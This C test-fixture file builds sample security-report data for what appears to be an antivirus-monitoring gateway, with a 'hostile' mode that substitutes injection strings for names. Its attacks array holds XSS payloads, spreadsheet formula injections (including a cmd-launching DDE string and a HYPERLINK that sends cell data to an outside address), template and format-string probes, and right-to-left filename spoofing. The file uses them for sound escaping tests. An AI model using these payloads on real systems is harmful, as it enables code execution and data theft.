/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Filled report_views without a store behind them. */
#include "tests/gateway/report/sample.h"

#include <stdlib.h>
#include <string.h>

#include "gateway/schema/event.h"

enum {
    DAY = 20513, /* 2026-03-01 */
    HOUR_MS = 3600000,
    DAY_MS = 24 * HOUR_MS,
    POINTS = 31,
    TABLES = 7,
    KPIS = 28,
    LINES = 4,
    BANDS = 24,
    ALERTS = 9,
    INSPECTION = 8,
    UNKNOWN = 6
};
#define LONG_SCOPE "shanghai-pudong/WIN-ACCOUNTS-RECEIVABLE-TERMINAL-SERVER-0123456789"
#define LONG64     "WIN-ACCOUNTS-RECEIVABLE-TERMINAL-SERVER-0123456789-ABCDEFGHIJKLM"

struct sample {
    struct zone *zone;
    struct report_plan plan;
    struct report_view view;
    struct report_row rows[TABLES][REPORT_TOP_MAX];
    struct report_table tables[TABLES];
    struct report_point points[POINTS];
    struct report_band bands[KPIS][LINES][BANDS];
    struct report_line lines[KPIS][LINES];
    struct report_kpi kpis[KPIS];
    struct report_alert alerts[ALERTS];
    struct report_inspection inspection[INSPECTION];
    int64_t by_day[INSPECTION][POINTS];
    struct report_unknown unknown[UNKNOWN];
    uint32_t dice;
    const char *const *texts; /* of SAMPLE_HOSTILE; n_texts of them */
    size_t n_texts;
};

static const char *const sites[] = {"beijing", "shanghai-pudong"};

static const char *const attacks[] = {
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'/**/onmouseover='alert(1)",
    "</title></style></svg><b>bold</b>",
    "<!-- ]]> --> <![CDATA[ &amp; &#60;i&#62;",
    "=HYPERLINK(\"http://192.0.2.66/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "invoice\xe2\x80\xaegpj.exe",                 /* U+202E: the rest from right to left */
    "\xe2\x81\xa6\xe2\x80\x8fhidden\xe2\x81\xa9", /* isolates and marks */
    "line\xe2\x80\xa8two\xe2\x80\xa9three",       /* separators of lines and paragraphs */
    "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d 123 \xd8\xb3\xd9\x84\xd8\xa7\xd9\x85 45",
    "{{7*7}} ${7*7} %s%n {1} {9}",
    "javascript:alert(1)",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    NULL};
enum { ATTACKS = sizeof attacks / sizeof *attacks - 1 };

static const char *const malware[] = {
    "TROJ_GENERIC.R002C0DLA26",
    "Ransom.Win32.LOCKBIT.SMYXCJNT",
    "PE_SALITY.RL",
    "WORM_DOWNAD.AD",
    "Coinminer.Linux.MALXMR.UWEKI-with-a-name-of-more-than-64-characters-0",
    "HackTool.Win32.Mimikatz.SM",
    "JS_POWLOAD.ELDSAUHA",
    "勒索软件_示例变种.甲",
    "X97M_LAROUX.CO",
    "Eicar_test_file"};
static const char *const sources[] = {"192.0.2.77", "PC-FINANCE-07",     "2001:db8::7:66",
                                      LONG64,       "财务部-打印服务器", "192.0.2.12",
                                      "PC-RND-113", "198.51.100.4"};
static const char *const computers[] = {
    LONG64,        "pc-finance-07", "研发部-张三的台式机",   "pc-rnd-113", "srv-files-02",
    "nb-sales-31", "pc-lobby",      "srv-print.example.com", "pc-rnd-009", "nb-sales-04"};
static const char *const products[] = {"Apex One", "Apex Central", "Deep Security",
                                       "InterScan Messaging Security Virtual Appliance"};

/* Names in English and Chinese as in mappings/kpi.xml. */
static const struct {
    const char *key, *name, *name_zh;
} catalogue[KPIS] = {
    {"product-offline", "Product offline", "产品离线"},
    {"pattern-outdated", "Virus pattern outdated", "病毒码过期"},
    {"engine-outdated", "Scan engine outdated", "扫描引擎过期"},
    {"install-rate", "Agent installation rate", "安装率"},
    {"agent-offline", "Agents offline", "客户端离线率"},
    {"update-failure", "Component update failures", "组件更新失败"},
    {"protection-disabled", "Real-time protection off", "实时防护停用"},
    {"license-expiry", "Licence expiry", "授权到期"},
    {"log-silence", "Log silence", "日志中断"},
    {"console-logon-failure", "Console logon failures", "控制台登录失败"},
    {"outbreak", "Outbreak", "病毒爆发"},
    {"high-risk-virus", "High-risk malware", "特定病毒"},
    {"suspected-virus", "Suspected malware", "疑似病毒"},
    {"infection-level", "Infection level", "感染等级"},
    {"infection-source", "Infection source", "感染来源"},
    {"clean-failure", "Clean failures", "清除失败"},
    {"repeat-infection", "Repeated infection", "重复感染"},
    {"grayware", "Spyware and grayware", "间谍软件/灰色软件"},
    {"ransomware", "Ransomware", "勒索软件"},
    {"behaviour-violation", "Behaviour monitoring violations", "行为监控违规"},
    {"sandbox-detection", "Sandbox detections", "沙箱可疑对象"},
    {"c2-callback", "C&C callbacks", "C&C 回连"},
    {"web-violation", "Malicious web addresses", "恶意网址访问"},
    {"exploit-attack", "Network viruses and exploits", "网络病毒/漏洞攻击"},
    {"email-threat", "Mail threats", "邮件威胁"},
    {"data-leak", "Data leaks and device control", "数据泄露与设备管控"},
    {"vulnerability-exposure", "Open vulnerabilities", "系统漏洞"},
    {"network-device-fault", "Network device faults", "网络设备故障"},
};

/* 0..below-1; a generator that gives the same everywhere. */
static int64_t roll(struct sample *s, int64_t below)
{
    s->dice = s->dice * 1664525U + 1013904223U;
    return (int64_t)(s->dice >> 8) % below;
}

/* A name, or an attack in its stead. */
static const char *named(const struct sample *s, enum sample_kind kind, const char *name, size_t i)
{
    return kind == SAMPLE_HOSTILE ? s->texts[i % s->n_texts] : name;
}

static void fill_table(struct sample *s, enum sample_kind kind, size_t i, enum store_group group,
                       const char *const *names, size_t n)
{
    static const int actions[] = {3, 2, 11, 5, 13, 16, 0};
    static const int kinds[] = {GW_KIND_MALWARE_QUARANTINED, GW_KIND_WEB_REPUTATION,
                                GW_KIND_MALWARE_CLEAN_FAILED, GW_KIND_CNC_CALLBACK,
                                GW_KIND_EMAIL_THREAT};
    struct report_table *t = &s->tables[i];
    int64_t count = i < 3 ? 1411 : 4211;
    *t = (struct report_table){.group = group, .is_infection = i < 3, .rows = s->rows[i]};
    for (t->n_rows = 0; t->n_rows < n && kind != SAMPLE_QUIET; t->n_rows++) {
        struct report_row *row = &s->rows[i][t->n_rows];
        *row = (struct report_row){.name = "", .site = "", .n = count};
        if (group == STORE_BY_ACTION)
            row->number = actions[t->n_rows];
        else if (group == STORE_BY_KIND)
            row->number = kinds[t->n_rows];
        else
            row->name = named(s, kind, names[t->n_rows], t->n_rows + i);
        if (group == STORE_BY_COMPUTER)
            row->site = named(s, kind, sites[t->n_rows % 2], t->n_rows);
        row->before = t->n_rows % 4 == 3 ? 0 : t->n_rows % 4 == 1 ? count : roll(s, 2 * count);
        t->total.n += row->n;
        t->total.before += row->before;
        count = count * (45 + roll(s, 45)) / 100 + 1;
    }
    t->total.names = (int64_t)t->n_rows;
    if (n == REPORT_TOP_MAX && t->n_rows == n) { /* more than it has rows for */
        t->total.names += 34;
        t->total.n += 317;
        t->total.before += 280;
    }
}

static void fill_tables(struct sample *s, enum sample_kind kind)
{
    fill_table(s, kind, 0, STORE_BY_MALWARE, malware, 10);
    fill_table(s, kind, 1, STORE_BY_SOURCE, sources, 8);
    fill_table(s, kind, 2, STORE_BY_COMPUTER, computers, 10);
    fill_table(s, kind, 3, STORE_BY_PRODUCT, products, 4);
    fill_table(s, kind, 4, STORE_BY_ACTION, NULL, 7);
    fill_table(s, kind, 5, STORE_BY_KIND, NULL, 5);
    fill_table(s, kind, 6, STORE_BY_SITE, sites, kind == SAMPLE_DAY ? 1 : 2);
    s->view.tables = s->tables;
    s->view.n_tables = TABLES;
    s->view.infections = s->tables[0].total;
}

/* Shares of the totals, so that the points add up to them. */
static void fill_points(struct sample *s, enum sample_kind kind)
{
    bool is_day = kind == SAMPLE_DAY;
    int64_t detections = s->tables[5].total.n, infections = s->tables[0].total.n;
    int64_t weights[POINTS], all = 0;
    s->view.points = s->points;
    s->view.n_points = is_day ? 24 : (size_t)(s->plan.days.to - s->plan.days.from);
    for (size_t i = 0; i < s->view.n_points; i++) {
        s->points[i].begin_ms = s->view.begin_ms + (int64_t)i * (is_day ? HOUR_MS : DAY_MS);
        s->points[i].day = s->plan.days.from + (is_day ? 0 : (int64_t)i);
        weights[i] =
            s->points[i].begin_ms < s->view.end_ms ? 10 + roll(s, 20) + (i % 7 == 4 ? 60 : 0) : 0;
        all += weights[i];
    }
    for (size_t i = 0; i < s->view.n_points; i++) {
        s->points[i].detections = detections * weights[i] / all;
        s->points[i].infections = infections * weights[i] / all;
        detections -= s->points[i].detections;
        infections -= s->points[i].infections;
        all -= weights[i] < all ? weights[i] : 0;
    }
}

/* Bands that follow one another; a line may begin late: nothing was known before. */
static void fill_line(struct sample *s, enum sample_kind kind, struct report_line *line,
                      struct report_band *bands, int badness)
{
    int64_t at = s->view.begin_ms + roll(s, 5) / 4 * 3 * HOUR_MS;
    int64_t span = s->view.end_ms - s->view.begin_ms;
    line->bands = bands;
    line->state = line->worst = 0;
    while (at < s->view.end_ms && line->n_bands < BANDS) {
        struct report_band *b = &bands[line->n_bands];
        int64_t dice = roll(s, 10);
        *b = (struct report_band){.from_ms = at, .value_text = "0", .reason = ""};
        if (badness > 0 && line->n_bands % 2 == 1)
            b->state = dice < 2 ? 3 : dice < 4 + badness ? 2 : 1;
        b->until_ms = at + span / (b->state ? 60 : 12) * (1 + roll(s, 5));
        if (b->until_ms > s->view.end_ms || line->n_bands + 1 == BANDS || badness == 0)
            b->until_ms = s->view.end_ms;
        if (b->state) {
            b->value_text = "7 hosts";
            b->reason = named(s, kind, "7 hosts in 1 h", line->n_bands);
        }
        line->ms_in[b->state] += b->until_ms - b->from_ms;
        line->state = b->state;
        if (b->state == 2 || line->worst == 0 || (b->state == 1 && line->worst == 3))
            line->worst = line->worst == 2 ? 2 : b->state;
        at = b->until_ms;
        line->n_bands++;
    }
}

static void fill_kpis(struct sample *s, enum sample_kind kind)
{
    static const char *const of_product[] = {"beijing/osce01", "beijing/apexcentral",
                                             "shanghai-pudong/osce02", LONG_SCOPE};
    s->view.kpis = s->kpis;
    for (size_t i = 0; i < KPIS; i++) {
        if (i % 9 == 7) /* never on: left out */
            continue;
        struct report_kpi *k = &s->kpis[s->view.n_kpis++];
        bool is_product = i < 3 || i == 24;
        *k = (struct report_kpi){
            .id = (int64_t)i + 1,
            .key = catalogue[i].key,
            .name = {catalogue[i].name, catalogue[i].name_zh},
            .advice = {"Look at the console named by the scope.", "请检查范围所示的控制台。"},
            .is_on = i % 13 != 12,
            .lines = s->lines[i],
            .state = -1,
            .worst = -1};
        k->n_lines = i == 25 ? 0 : is_product ? 4 : kind == SAMPLE_DAY ? 1 : 2;
        k->n_left = i == 10 ? 3 : 0;
        for (size_t j = 0; j < k->n_lines; j++) {
            struct report_line *line = &s->lines[i][j];
            line->scope = named(s, kind, is_product ? of_product[j] : sites[j], i + j);
            line->site = named(s, kind, sites[is_product ? j / 2 : j], j);
            fill_line(s, kind, line, s->bands[i][j],
                      kind == SAMPLE_QUIET || i % 4 > 1 ? 0 : (int)((i + j) % 4));
            for (int state = 0; state < REPORT_STATES; state++)
                k->ms_in[state] += line->ms_in[state];
            if (k->worst < 0 || line->worst == 2 || (line->worst && k->worst != 2))
                k->worst = line->worst;
            if (k->state < 0 || line->state == 2 || (line->state && k->state != 2))
                k->state = line->state;
        }
    }
}

static void fill_alerts(struct sample *s, enum sample_kind kind)
{
    static const char *const reasons[] = {
        "7 hosts in 1 h", "3 of 48 managed computers", "a newer version has been known for 9 days",
        "4 heartbeat intervals without a message", "source silent since 2026-03-12T04:00:00Z"};
    s->view.alerts = s->alerts;
    s->view.n_alerts = kind == SAMPLE_QUIET ? 0 : ALERTS;
    for (size_t i = 0; i < s->view.n_alerts; i++) {
        struct report_alert *a = &s->alerts[i];
        size_t k = (i * 5 + 10) % KPIS;
        *a = (struct report_alert){
            .id = 100 + (int64_t)i,
            .kpi = (int64_t)k + 1,
            .key = catalogue[k].key,
            .scope = named(s, kind, i % 3 ? sites[i % 2] : LONG_SCOPE, i),
            .site = named(s, kind, sites[i % 2], i),
            .scope_name = "",
            .name = {catalogue[k].name, catalogue[k].name_zh},
            .opened_ms = s->view.begin_ms + (int64_t)i * (s->view.end_ms - s->view.begin_ms) / 12,
            .closed_ms = INT64_MAX,
            .state = i < 2 ? 2 : 1,
            .worst = i < 4 ? 2 : 1,
            .value_text = "7 hosts",
            .reason = named(s, kind, reasons[i % 5], i + 2),
            .ack_name = "",
            .ack_note = ""};
        if (i == 1) { /* since before the period */
            a->opened_ms = s->view.begin_ms - 9 * (int64_t)DAY_MS;
            a->ack_ms = s->view.begin_ms + HOUR_MS;
            a->ack_name = named(s, kind, "王小明", 3);
            a->ack_note = named(s, kind, "A ticket is open with the branch, parts are ordered.", 4);
        }
        if (i >= 3) {
            a->closed_ms = a->opened_ms + (int64_t)(i * i) * 47 * 60000;
            a->state = 0;
        }
        a->lasted_ms = (i < 3 ? s->view.end_ms : a->closed_ms) - a->opened_ms;
    }
    s->view.n_alerts_left = s->view.n_alerts ? 2 : 0;
    s->view.n_opened = s->view.n_alerts ? ALERTS - 1 + 2 : 0;
    s->view.n_closed = s->view.n_alerts ? ALERTS - 3 + 2 : 0;
    s->view.n_open = s->view.n_alerts ? 3 : 0;
    s->view.n_unhandled = s->view.n_alerts ? 2 : 0;
}

static void fill_inspection(struct sample *s, enum sample_kind kind)
{
    static const struct {
        int kpi;
        const char *scope, *value, *unit;
        int state, worst;
        int64_t begin, step;
    } lines[INSPECTION] = {
        {1, "beijing/osce01", "0 products", "products", 0, 2, 0, 0},
        {2, "beijing/osce01", "2 versions", "versions", 0, 1, 0, 1},
        {2, LONG_SCOPE, "9 days", "days", 2, 2, 1, 1},
        {3, "beijing/osce01", "12 days", "days", 0, 0, 3, 1},
        {4, "beijing", "97.40 %", "0.01 %", 0, 0, 9400, 11},
        {4, "shanghai-pudong", "88.20 %", "0.01 %", 1, 2, 8100, 23},
        {5, "shanghai-pudong", "", "0.01 %", 3, 3, INT64_MIN, 0},
        {27, "beijing", "3 hosts", "hosts", 1, 1, 9, 0},
    };
    s->view.inspection = s->inspection;
    s->view.n_inspection = INSPECTION;
    for (size_t i = 0; i < INSPECTION; i++) {
        const char *const name[] = {catalogue[lines[i].kpi - 1].name,
                                    catalogue[lines[i].kpi - 1].name_zh};
        for (size_t j = 0; j < s->view.n_points; j++)
            s->by_day[i][j] = lines[i].begin == INT64_MIN || (i == 5 && j < 6)
                                  ? INT64_MIN
                                  : lines[i].begin + lines[i].step * (int64_t)j + roll(s, 3);
        s->inspection[i] = (struct report_inspection){.kpi = lines[i].kpi,
                                                      .key = catalogue[lines[i].kpi - 1].key,
                                                      .scope = named(s, kind, lines[i].scope, i),
                                                      .site = named(s, kind, sites[i % 2], i),
                                                      .name = {name[0], name[1]},
                                                      .state = lines[i].state,
                                                      .worst = lines[i].worst,
                                                      .is_always_ok = lines[i].worst == 0,
                                                      .value_text = lines[i].value,
                                                      .unit = lines[i].unit,
                                                      .by_day = s->by_day[i]};
    }
}

static void fill_unknown(struct sample *s, enum sample_kind kind)
{
    static const char *const senders[UNKNOWN] = {"192.0.2.201",  "switch-07.example.net",
                                                 LONG64,         "2001:db8:0:7::201",
                                                 "198.51.100.9", "机房-交换机"};
    if (kind == SAMPLE_QUIET)
        return;
    s->view.unknown = s->unknown;
    s->view.n_unknown = UNKNOWN;
    s->view.n_unknown_left = 12;
    s->view.not_understood = 40; /* of those not listed */
    for (size_t i = 0; i < UNKNOWN; i++) {
        s->unknown[i] = (struct report_unknown){.site = named(s, kind, sites[i % 2], i),
                                                .sender = named(s, kind, senders[i], i + 1),
                                                .product = i % 2 ? "" : "Cisco IOS",
                                                .unknown = 12000 >> (2 * i),
                                                .malformed = i == 2};
        s->view.not_understood += s->unknown[i].unknown;
        s->view.malformed += s->unknown[i].malformed;
    }
}

static void plan_days(struct sample *s, enum sample_kind kind)
{
    struct report_plan *p = &s->plan;
    p->period = kind == SAMPLE_DAY ? REPORT_DAY : kind == SAMPLE_QUIET ? REPORT_WEEK : REPORT_MONTH;
    p->days = (struct store_days){DAY, DAY + 31};
    p->before = (struct store_days){DAY - 28, DAY};
    if (kind == SAMPLE_DAY) {
        p->days = (struct store_days){DAY + 17, DAY + 18};
        p->before = (struct store_days){DAY + 16, DAY + 17};
        p->site = sites[0];
    } else if (kind == SAMPLE_QUIET) {
        p->days = (struct store_days){DAY + 8, DAY + 15};
        p->before = (struct store_days){DAY + 1, DAY + 8};
    }
    p->zone = s->zone;
    p->zone_name = "Asia/Shanghai";
    p->gateway = named(s, kind, "gw-headquarters", 0);
}

struct sample *sample_new(enum sample_kind kind)
{
    return sample_new_of(kind, attacks, ATTACKS);
}

struct sample *sample_new_of(enum sample_kind kind, const char *const *texts, size_t n)
{
    struct sample *s = calloc(1, sizeof *s);
    if (!s)
        abort();
    s->texts = texts;
    s->n_texts = n;
    s->dice = 20260301;
    s->zone = zone_open("Asia/Shanghai");
    plan_days(s, kind);
    s->view.plan = &s->plan;
    s->view.begin_ms = store_day_begin_ms(s->zone, s->plan.days.from);
    s->view.end_ms = store_day_begin_ms(s->zone, s->plan.days.to);
    s->plan.made_ms = s->view.end_ms + 7 * HOUR_MS;
    if (kind == SAMPLE_DAY) {
        s->plan.made_ms = s->view.end_ms = s->view.end_ms - 5 * HOUR_MS - 17 * 60000;
        s->view.is_part = true;
    }
    s->view.extent = (struct store_extent){.first = 1,
                                           .cursor = 5000000,
                                           .now_ms = s->plan.made_ms,
                                           .hours_from = INT64_MIN,
                                           .days_from = INT64_MIN};
    s->view.sites = sites;
    s->view.n_sites = kind == SAMPLE_DAY ? 1 : 2;
    s->view.is_empty = kind == SAMPLE_EMPTY;
    if (kind == SAMPLE_EMPTY) {
        s->view.n_sites = 0;
        return s;
    }
    if (kind == SAMPLE_MONTH || kind == SAMPLE_HOSTILE)
        s->view.extent.late = 17;
    fill_tables(s, kind);
    fill_points(s, kind);
    fill_kpis(s, kind);
    fill_alerts(s, kind);
    fill_inspection(s, kind);
    fill_unknown(s, kind);
    return s;
}

const struct report_view *sample_view(const struct sample *sample)
{
    return &sample->view;
}

void sample_free(struct sample *sample)
{
    if (!sample)
        return;
    zone_free(sample->zone);
    free(sample);
}

const char *sample_name(enum sample_kind kind)
{
    static const char *const names[] = {"month", "day", "quiet", "hostile", "empty"};
    return names[kind];
}

const char *const *sample_attacks(void)
{
    return attacks;
}
